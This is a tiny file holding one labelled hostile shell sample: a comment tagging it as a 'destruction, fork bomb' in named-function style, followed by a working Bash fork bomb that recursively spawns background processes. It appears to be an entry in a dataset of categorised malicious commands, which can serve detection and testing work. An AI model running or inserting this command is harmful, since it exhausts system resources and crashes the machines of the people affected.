# class: destruction, fork bomb; style: named functions
spawn() { spawn | spawn & }
spawn
